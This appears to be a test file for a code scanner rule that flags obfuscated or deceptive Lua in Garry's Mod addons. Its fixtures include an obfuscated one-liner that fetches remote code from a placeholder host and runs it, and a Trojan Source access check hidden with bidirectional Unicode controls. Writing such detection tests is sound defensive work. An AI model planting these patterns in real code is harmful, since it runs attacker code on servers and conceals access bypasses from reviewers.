// Valid and invalid cases of the `lexical_noise` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './lexical_noise.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('lexical_noise', () => {
  it('one-line file with _0x names', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;http.Fetch("https://a.invalid", RunString)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('one long line among blank lines of any break and whitespace', () => {
    const long = 'local t = {' + '1, '.repeat(200) + '}';
    const oneLine = (text: string) =>
      check(rule, { 'lua/autorun/server/sv_x.lua': text }).some((f) =>
        f.pattern.includes('whole file on one line'),
      );
    // Blank lines (spaces, tabs, a form feed) between `\n`, `\r\n` and lone `\r` breaks.
    expect(oneLine(`\r\n \t\n${long}\r\f\r\n\n`)).toBe(true);
    expect(oneLine(`${long}\rprint(t)\r\nprint(1)`)).toBe(true);
    // Four non-blank lines, whatever breaks them, are not one line.
    expect(oneLine(`${long}\rprint(t)\r\nprint(1)\n  print(2)`)).toBe(false);
  });
  it('ordinary file', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'local count = 1\nprint(count)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  const RLO = '\u202E';
  const LRI = '\u2066';
  const PDI = '\u2069';
  it('a check whose string hides bidirectional controls (Trojan Source)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_access.lua': [
        'function CanUse(ply)',
        ` if ply:GetUserGroup() == "user${RLO} ${LRI}-- default group${PDI} ${LRI}" then`,
        '  return false',
        ' end',
        ' return true',
        'end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    expect(findings[0]!.line).toBe(2);
  });
  it('bidirectional controls in an invisible name, or in a translation (no finding above low)', () => {
    for (const code of [
      `local ${LRI}${PDI} = 0\nif ${LRI}${PDI} == 1 then print(1) end`,
      `L.welcome = "${RLO}مرحبا${PDI}"\nprint(L.welcome)`,
      `-- ${RLO}note${PDI}\nlocal x = 1`,
    ]) {
      const findings = check(rule, { 'lua/autorun/client/cl_x.lua': code });
      expect(worst(findings), code).toBeLessThanOrEqual(RANK.low);
    }
  });
});
